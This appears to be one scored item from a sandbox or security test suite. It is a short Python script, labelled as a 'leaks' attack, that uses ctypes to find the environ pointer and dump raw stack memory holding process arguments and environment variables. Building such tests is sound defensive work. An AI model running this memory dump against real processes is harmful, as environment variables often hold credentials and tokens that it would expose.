# attack: reads the arguments and the environment that the kernel left on the stack
# family: leaks
# base: blank
# points: 0
# %% last
import ctypes
libc = ctypes.CDLL(None)
start = ctypes.cast(ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ"), ctypes.c_void_p).value
for offset in range(0, 1 << 16, 256):
    print(ctypes.string_at(start + offset, 256))
